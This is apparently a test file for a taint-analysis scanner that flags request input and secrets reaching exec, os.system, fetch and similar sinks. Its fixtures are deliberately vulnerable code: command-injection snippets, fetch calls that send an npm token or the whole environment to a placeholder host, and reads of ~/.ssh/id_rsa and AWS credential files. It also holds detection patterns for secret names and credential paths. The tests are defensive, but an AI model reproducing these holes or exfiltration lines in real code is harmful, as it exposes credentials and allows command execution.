import { describe, expect, it } from 'vitest';
import { taintFlows, type TaintSpec } from '../../../../src/core/semantics/taint/analysis.js';

const JS_CMD: TaintSpec = {
  sources: ['req.query', 'req.body', 'req.params', 'process.env'],
  sinks: [
    { name: 'child_process.exec', arg: 0 },
    { name: 'child_process.execSync', arg: 0 },
    { name: 'fetch', arg: 0 },
    { name: 'child_process.spawn', arg: 0, option: { key: 'shell', value: 'true' } },
  ],
  sanitizers: ['path.basename', 'encodeURIComponent', 'shell-quote.quote'],
};

const PY_CMD: TaintSpec = {
  sources: ['flask.request.args', 'flask.request.form', 'flask.request.get_json', 'os.environ'],
  sinks: [
    { name: 'os.system', arg: 0 },
    { name: 'subprocess.run', arg: 0, when: { shell: 'True' } },
    { name: 'requests.get', arg: 0, keyword: 'url' },
  ],
  sanitizers: ['shlex.quote', 'werkzeug.utils.secure_filename'],
};

const js = (code: string) => taintFlows(code, 'javascript', JS_CMD);
const py = (code: string) => taintFlows(code, 'python', PY_CMD);
const lines = (r: ReturnType<typeof taintFlows>) => r.flows.map((f) => f.sink.line);

describe('taint: JavaScript', () => {
  it('reports a request value reaching exec through a variable, with its path', () => {
    const r = js(`const cp = require('child_process');
app.get('/x', (req, res) => {
  const name = req.query.name;
  const cmd = 'ls ' + name;
  cp.exec(cmd);
});
`);
    expect(r.gaveUp).toBeNull();
    expect(lines(r)).toEqual([5]);
    expect(r.flows[0]!.path).toBe('`req.query.name` (line 3) → `name` (line 3) → `cmd` (line 4) → `cp.exec(cmd)` (line 5)');
  });

  it('propagates through destructuring, templates, string methods, arrays, spread and fields', () => {
    const r = js(`import { exec as run } from 'node:child_process';
function handler(req, res) {
  const { user } = req.body;
  const t = \`echo \${user.name.trim()}\`;
  run(t);
  const parts = ['git', req.params.ref];
  run(parts.join(' '));
  const opts = { ...req.query };
  run(opts.cmd);
  fetch(process.env.HOOK + '/x');
}
`);
    expect(lines(r)).toEqual([5, 7, 9, 10]);
  });

  it('does not report constants, sanitized values or unrelated parameters', () => {
    const r = js(`const cp = require('child_process');
const path = require('path');
function handler(req, res, other) {
  cp.exec('ls -la');
  const base = 'tar xf ' + path.basename(req.query.file);
  cp.exec(base);
  cp.exec(other.query);
  fetch('https://api.example.com/u/' + encodeURIComponent(req.params.id));
  const cmd = 'ls';
  cp.exec(cmd);
}
`);
    expect(r.flows).toEqual([]);
  });

  it('follows a same-file helper that returns its argument', () => {
    const r = js(`const cp = require('child_process');
function wrap(s) { return 'sh -c ' + s; }
function handler(req) {
  cp.execSync(wrap(req.query.c));
}
`);
    expect(lines(r)).toEqual([4]);
  });
});

describe('taint: sinks that need an option', () => {
  it('spawn is a sink only with shell: true, written inline or in a variable', () => {
    const r = js(`const { spawn } = require('child_process');
function handler(req) {
  const opts = { stdio: 'inherit', shell: true };
  spawn(req.query.cmd, [], opts);
  spawn(req.query.cmd, { 'shell': true });
  spawn(req.query.cmd, [], { shell: false });
  spawn(req.query.cmd, ['-l']);
  spawn('ls', [req.query.dir], { shell: true });
}
`);
    expect(lines(r)).toEqual([4, 5]);
  });
});

describe('taint: helpers that call a sink', () => {
  it('report the call that passes request input to a helper running it, with both lines', () => {
    const r = js(`const cp = require('child_process');
function runIt(prefix, cmd) {
  cp.exec(cmd);
}
function handler(req) {
  runIt('x', req.body.cmd);
  runIt(req.body.cmd, 'ls');
}
`);
    expect(lines(r)).toEqual([6]);
    expect(r.flows[0]!.path).toBe("`req.body.cmd` (line 6) → `runIt('x', req.body.cmd)` (line 6) → `cp.exec(cmd)` (line 3)");
  });

  it('a helper whose sink takes its own source does not make its callers sinks', () => {
    const r = js(`const cp = require('child_process');
function runIt(c) {
  cp.exec(process.env.CMD);
}
function handler(req) {
  runIt(req.body.x);
}
`);
    expect(lines(r)).toEqual([3]);
  });

  it('Python: a helper passing its parameter to os.system', () => {
    const r = py(`import os
from flask import request
def run(c):
    os.system("ls " + c)
def view():
    run(request.args["d"])
    run("fixed")
`);
    expect(lines(r)).toEqual([6]);
  });
});

describe('taint: Python', () => {
  it('reports a Flask request value reaching os.system through an f-string', () => {
    const r = py(`import os
from flask import request
def view():
    name = request.args.get("name")
    cmd = f"ls {name}"
    os.system(cmd)
`);
    expect(lines(r)).toEqual([6]);
    expect(r.flows[0]!.path).toContain('`request.args.get("name")` (line 4) → `name` (line 4) → `cmd` (line 5)');
  });

  it('subprocess only with shell=True; requests by keyword; json body', () => {
    const r = py(`import subprocess, requests
from flask import request as rq
def view():
    data = rq.get_json()
    subprocess.run(data["cmd"], shell=True)
    subprocess.run(data["cmd"])
    requests.get(url=data["url"])
`);
    expect(lines(r)).toEqual([5, 7]);
  });

  it('shlex.quote and constants stop it', () => {
    const r = py(`import os, shlex
from flask import request
def view():
    os.system("ls " + shlex.quote(request.form["d"]))
    os.system("ls")
`);
    expect(r.flows).toEqual([]);
  });
});

describe('taint: bounds', () => {
  it('a 20,000-step chain of distinct variables is given up on, and says why', () => {
    const body = ['  let v0 = req.query.x;'];
    for (let i = 1; i < 20_000; i++) body.push(`  let v${i} = v${i - 1} + "y";`);
    const code = `const cp = require('child_process');\nfunction h(req) {\n${body.join('\n')}\n  cp.exec(v19999);\n}\n`;
    const r = js(code);
    // Each variable is one level deeper than the last: past the depth bound the pass stops and
    // says so (the scan lists the file as not reviewed). Time is measured by `npm run bench`.
    expect(r.flows).toEqual([]);
    expect(r.gaveUp).toMatch(/^nesting deeper than \d+$/);
  });

  it('deep nesting in an argument no sink reads is not analysed; in the sink argument it gives up', () => {
    const deep = `${'f('.repeat(5_000)}x${')'.repeat(5_000)}`;
    const unread = js(`const cp = require('child_process');\nfunction h(req) {\n  cp.exec(req.query.x, ${deep});\n}\n`);
    expect(unread.gaveUp).toBeNull();
    expect(lines(unread)).toEqual([3]);
    const read = js(`const cp = require('child_process');\nfunction h(req) {\n  cp.exec(${deep}, req.query.x);\n}\n`);
    expect(read.flows).toEqual([]);
    expect(read.gaveUp).toMatch(/^nesting deeper than \d+$/);
  });

  it('a variable appended to thousands of times is searched once, not once per use', () => {
    const body = ['  let out = "";'];
    for (let i = 0; i < 5_000; i++) body.push(i === 2_500 ? '  out = out + req.query.x;' : `  out = out + "${i}";`);
    const code = `const cp = require('child_process');\nfunction h(req) {\n${body.join('\n')}\n  cp.exec(out);\n}\n`;
    const r = js(code);
    expect(r.gaveUp).toBeNull();
    expect(lines(r)).toEqual([5_004]);
    expect(r.flows[0]!.path).toContain('`req.query.x` (line 2504)');
    const clean = js(code.replace('req.query.x', '"z"'));
    expect(clean).toEqual({ flows: [], gaveUp: null });
  });

  it('values passed around a cycle of assignments keep their taint, whichever is asked first', () => {
    const code = [
      "const cp = require('child_process');",
      'function h(req) {',
      '  let a = "";',
      '  let b = a;',
      '  a = b;',
      '  a = req.query.x;',
      '  cp.exec(a);',
      '  cp.exec(b);',
      '}',
    ].join('\n');
    expect(lines(js(code))).toEqual([7, 8]);
  });

  it('a 20,000-line function of independent statements is analysed completely', () => {
    const body: string[] = [];
    for (let i = 0; i < 20_000; i++) body.push(i % 2 ? `  cp.exec('ls ' + v${i - 1});` : `  const v${i} = ${i % 4 ? 'req.query.x' : "'a'"} + "${i}";`);
    const code = `const cp = require('child_process');\nfunction h(req) {\n${body.join('\n')}\n}\n`;
    const r = js(code);
    expect(r.gaveUp).toBeNull();
    expect(r.flows).toHaveLength(5_000);
    expect(r.flows[0]!.sink.line).toBe(6);
  });
});

describe('taint: string building and values the passes do not fold', () => {
  it('Python % formatting, .format, or, conditional values and loop elements carry taint', () => {
    const r = py(`import os
from flask import request
def view():
    a = request.args["a"]
    os.system("ls %s" % a)
    os.system("ls {}".format(a))
    os.system(a or "ls")
    os.system("ls" if a == "" else a)
    for item in request.form.getlist("x"):
        os.system("echo " + item)
    os.system("ls %s" % "fixed")
`);
    expect(lines(r)).toEqual([5, 6, 7, 8, 10]);
  });

  it('JavaScript ||, ?? and ?: carry taint; for-of elements do', () => {
    const r = js(`const cp = require('child_process');
function handler(req) {
  cp.exec(req.query.a || 'ls');
  cp.exec(req.query.b ?? 'ls');
  cp.exec(req.query.c ? req.query.c : 'ls');
  for (const part of req.body.parts) cp.exec(part);
  cp.exec('' || 'ls');
}
`);
    expect(lines(r)).toEqual([3, 4, 5, 6]);
  });

  it('s += x appends: the appended value carries taint, a constant appended does not, other operators do not', () => {
    const r = js(`const cp = require('child_process');
function handler(req) {
  let cmd = 'ls ';
  cmd += req.query.dir;
  cp.exec(cmd);
  let fixed = 'ls ';
  fixed += '-la';
  cp.exec(fixed);
  let n = 1;
  n *= req.query.k;
  cp.exec('sleep ' + String(n));
}
`);
    expect(lines(r)).toEqual([5]);
    expect(r.flows[0]!.path).toBe('`req.query.dir` (line 4) → `cmd` (line 4) → `cp.exec(cmd)` (line 5)');
    const p = py(`import os
from flask import request
def run():
    cmd = "ls "
    cmd += request.args["dir"]
    os.system(cmd)
    fixed = "ls "
    fixed += "-la"
    os.system(fixed)
`);
    expect(lines(p)).toEqual([6]);
  });

  it('a callback of a method on a tainted receiver receives its taint', () => {
    const r = js(`const cp = require('child_process');
function handler(req) {
  req.body.cmds.forEach((c) => cp.exec(c));
  ['ls', 'pwd'].forEach((c) => cp.exec(c));
  Promise.resolve(req.query.x).then((v) => cp.exec(v));
}
`);
    expect(lines(r)).toEqual([3, 5]);
  });
});

describe('taint: allow-list checks', () => {
  it('a negated membership test that leaves before the use cleans the variable (JavaScript)', () => {
    const r = js(`const cp = require('child_process');
const ALLOWED = ['ls', 'pwd'];
function a(req) {
  const c = req.query.c;
  if (!ALLOWED.includes(c)) return;
  cp.exec(c);
}
function b(req) {
  const c = req.query.c;
  if (!ALLOWED.includes(c)) console.log('odd');
  cp.exec(c);
}
function d(req) {
  const c = req.query.c;
  if (ALLOWED.includes(c)) {
    cp.exec(c);
  }
  cp.exec(c);
}
function e(req) {
  const c = req.query.c;
  cp.exec(c);
  if (!ALLOWED.includes(c)) return;
}
`);
    expect(lines(r)).toEqual([11, 18, 22]);
  });

  it('Python: not in with raise or abort(), in around the use, a host checked on the parsed URL', () => {
    const r = py(`import os, requests
from urllib.parse import urlparse
from flask import request, abort
ALLOWED = {"ls", "pwd"}
HOSTS = {"api.example.com"}
def a():
    c = request.args["c"]
    if c not in ALLOWED:
        raise ValueError(c)
    os.system(c)
def b():
    c = request.args["c"]
    if c in ALLOWED:
        os.system(c)
def host():
    url = request.args["u"]
    parsed = urlparse(url)
    if parsed.hostname not in HOSTS:
        abort(400)
    requests.get(url)
def unchecked():
    url = request.args["u"]
    if urlparse(url).hostname not in HOSTS:
        print("odd")
    requests.get(url)
`);
    expect(lines(r)).toEqual([25]);
  });
});

describe('taint: secrets, whole objects and method sinks', () => {
  const secrets: TaintSpec = {
    sources: [],
    secretSources: [{ name: 'process.env', keys: /token|secret/i }],
    sourceCalls: [{ name: 'fs.readFileSync', mentions: /\.ssh/ }],
    ignoreKeys: ['headers'],
    sinks: [
      { name: 'fetch', arg: 0 },
      { name: 'fetch', arg: 1 },
    ],
    sanitizers: [],
  };
  it('a secret-named variable, the whole environment and a credential file count; other variables and headers do not', () => {
    const r = taintFlows(
      `const fs = require('fs');
fetch('https://x.example/?t=' + process.env.NPM_TOKEN);
fetch(process.env.API_URL + '/health');
fetch(u, { body: JSON.stringify(process.env) });
fetch(u, { headers: { Authorization: process.env.API_TOKEN } });
const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');
fetch(u, { body: key });
fetch(u, { body: fs.readFileSync('config.json') });
`,
      'javascript',
      secrets,
    );
    expect(lines(r)).toEqual([2, 4, 7]);
  });

  it('a whole-object sink takes the source itself or its spread, not one of its fields; `*.name` matches any receiver', () => {
    const spec: TaintSpec = {
      sources: ['req.body'],
      sinks: [
        { name: '*.create', arg: 0, whole: true },
        { name: 'Object.assign', arg: 1, whole: true, into: 0 },
      ],
      sanitizers: [],
    };
    const r = taintFlows(
      `function h(req) {
  User.create(req.body);
  models.Post.create({ ...req.body, at: 1 });
  User.create({ name: req.body.name });
  User.create(req.body.name);
  Object.assign(user, req.body);
  Object.assign({}, req.body);
}
`,
      'javascript',
      spec,
    );
    expect(lines(r)).toEqual([2, 3, 6]);
  });

  it('Python: a with-statement target is its value; **kwargs reach a whole-object sink', () => {
    const spec: TaintSpec = {
      sources: ['request.POST'],
      sinks: [{ name: '*.create', arg: 0, keyword: '**', whole: true }],
      sanitizers: [],
      sourceCalls: [{ name: 'open', mentions: /\.aws/ }],
    };
    const r = taintFlows(
      `def v(request):
    User.objects.create(**request.POST)
    User.objects.create(**{"name": request.POST["name"]})
    with open("/root/.aws/credentials") as fh:
        User.objects.create(fh.read())
`,
      'python',
      spec,
    );
    expect(lines(r)).toEqual([2]);
  });
});

describe('taint: allow-list checks in conditional expressions', () => {
  it('the first branch of a conditional on membership is clean; the other branch is not', () => {
    const r = js(`const cp = require('child_process');
function h(req) {
  const e = req.query.ext;
  const ext = ['png', 'jpg'].includes(e.toLowerCase()) ? e.toLowerCase() : 'png';
  cp.exec('convert x.' + ext);
  const other = ['png', 'jpg'].includes(e) ? 'png' : e;
  cp.exec('convert x.' + other);
}
`);
    expect(lines(r)).toEqual([7]);
  });
});
